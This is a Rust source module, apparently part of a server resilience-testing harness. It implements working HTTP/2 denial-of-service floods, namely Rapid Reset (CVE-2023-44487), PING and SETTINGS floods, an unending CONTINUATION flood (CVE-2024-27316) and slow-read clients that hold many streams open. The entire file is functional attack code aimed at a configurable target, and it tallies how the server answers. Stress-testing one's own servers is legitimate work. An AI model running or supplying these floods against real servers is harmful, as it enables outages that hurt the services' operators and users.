//! Floods over HTTP/2, in frames that no client library would send.

use std::io;
use std::sync::mpsc::Sender;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio_util::sync::CancellationToken;

use crate::frames::{ACK, END_HEADERS, END_STREAM, PREFACE, Reader, frame, get, header, kind};
use crate::http1;
use crate::scene::{Scene, Tally};

const CONNECTIONS: usize = 8;
/// Requests on each of them, where they are held.
const STREAMS: u32 = 12;
/// Frames, or pairs of them, in one write.
const BATCH: u32 = 64;
/// The code CANCEL.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Requests that are taken back as soon as they are sent (CVE-2023-44487), with a good key.
pub(crate) async fn resets(scene: Scene, ready: Sender<()>, stop: CancellationToken) {
    let keys = scene.keys.clone();
    flood(scene, ready, stop, move |n, batch, bytes| {
        let key = &keys[n % keys.len()];
        for at in 0..BATCH {
            let number = batch * BATCH + at;
            let block = get(&http1::session(1_000_000 + number % 10_000), key);
            let stream = number * 2 + 1;
            frame(
                bytes,
                kind::HEADERS,
                END_STREAM | END_HEADERS,
                stream,
                &block,
            );
            frame(bytes, kind::RST_STREAM, 0, stream, &CANCEL);
        }
    })
    .await;
}

/// Pings, which have to be answered.
pub(crate) async fn pings(scene: Scene, ready: Sender<()>, stop: CancellationToken) {
    flood(scene, ready, stop, |_, _, bytes| {
        for _ in 0..BATCH {
            frame(bytes, kind::PING, 0, 0, &[0; 8]);
        }
    })
    .await;
}

/// Settings, which have to be acknowledged: the size of windows, once more.
pub(crate) async fn settings(scene: Scene, ready: Sender<()>, stop: CancellationToken) {
    flood(scene, ready, stop, |_, _, bytes| {
        for _ in 0..BATCH {
            frame(bytes, kind::SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]);
        }
    })
    .await;
}

/// A head that never ends (CVE-2024-27316 and its kin).
pub(crate) async fn continuations(scene: Scene, ready: Sender<()>, stop: CancellationToken) {
    let keys = scene.keys.clone();
    flood(scene, ready, stop, move |n, batch, bytes| {
        if batch == 0 {
            let block = get(&http1::session(1_000_000), &keys[n % keys.len()]);
            frame(bytes, kind::HEADERS, END_STREAM, 1, &block);
        }
        let block = header("x-a", "a");
        for _ in 0..BATCH {
            frame(bytes, kind::CONTINUATION, 0, 1, &block);
        }
    })
    .await;
}

/// Clients that open all windows, ask for much on many streams, and read nothing.
pub(crate) async fn readers(scene: Scene, ready: Sender<()>, stop: CancellationToken) {
    let mut held = Vec::new();
    for n in 0..CONNECTIONS {
        let mut stream = scene.connect(scene.address, n).await.unwrap();
        let mut bytes = PREFACE.to_vec();
        let widest = i32::MAX.to_be_bytes();
        let setting = [&[0, 4][..], &widest].concat();
        frame(&mut bytes, kind::SETTINGS, 0, 0, &setting);
        let more = (i32::MAX - 65_535).to_be_bytes();
        frame(&mut bytes, kind::WINDOW_UPDATE, 0, 0, &more);
        for number in 0..STREAMS {
            let path = http1::large(n * 1_000 + usize::try_from(number).unwrap());
            let block = get(&path, scene.key(n));
            let flags = END_STREAM | END_HEADERS;
            frame(&mut bytes, kind::HEADERS, flags, number * 2 + 1, &block);
        }
        stream.write_all(&bytes).await.unwrap();
        scene.tally.add("held", u64::from(STREAMS));
        held.push(stream);
    }
    // What can be buffered is.
    tokio::time::sleep(Duration::from_secs(1)).await;
    ready.send(()).unwrap();
    stop.cancelled().await;
}

/// Keeps all connections full of what `next` gives for a connection and a batch of its; one that is ended comes again.
async fn flood<F>(scene: Scene, ready: Sender<()>, stop: CancellationToken, next: F)
where
    F: Fn(usize, u32, &mut Vec<u8>) + Clone + Send + Sync + 'static,
{
    ready.send(()).unwrap();
    let mut tasks = JoinSet::new();
    for n in 0..CONNECTIONS {
        let (scene, next) = (scene.clone(), next.clone());
        tasks.spawn(async move {
            loop {
                let ended = connection(&scene, n, &next).await;
                scene.tally.add(
                    match ended {
                        Ok(()) => "ended by it",
                        Err(_) => "broken off by it",
                    },
                    1,
                );
                tokio::task::yield_now().await;
            }
        });
    }
    stop.cancelled().await;
}

async fn connection<F>(scene: &Scene, n: usize, next: &F) -> io::Result<()>
where
    F: Fn(usize, u32, &mut Vec<u8>),
{
    let mut stream = scene.connect(scene.address, n).await?;
    let (mut reading, mut writing) = stream.split();
    let writes = async {
        writing.write_all(PREFACE).await?;
        let mut bytes = Vec::new();
        // As many as there are numbers for streams.
        for batch in 0..(1 << 30) / BATCH {
            bytes.clear();
            next(n, batch, &mut bytes);
            writing.write_all(&bytes).await?;
            scene.tally.add("frames sent, by 64", 1);
            tokio::task::yield_now().await;
        }
        Ok(())
    };
    let reads = async {
        let (mut frames, mut buffer) = (Reader::default(), vec![0; 16 << 10]);
        loop {
            let read = reading.read(&mut buffer).await?;
            if read == 0 {
                return Ok(());
            }
            frames.read(&buffer[..read], |kind, flags| {
                note(&scene.tally, kind, flags);
            });
        }
    };
    tokio::select! { ended = writes => ended, ended = reads => ended }
}

fn note(tally: &Tally, kind: u8, flags: u8) {
    let what = match kind {
        kind::HEADERS => "answers",
        kind::RST_STREAM => "streams that it reset",
        kind::GOAWAY => "GOAWAY",
        kind::PING if flags & ACK != 0 => "pings answered",
        kind::SETTINGS if flags & ACK != 0 => "settings acknowledged",
        _ => return,
    };
    tally.add(what, 1);
}
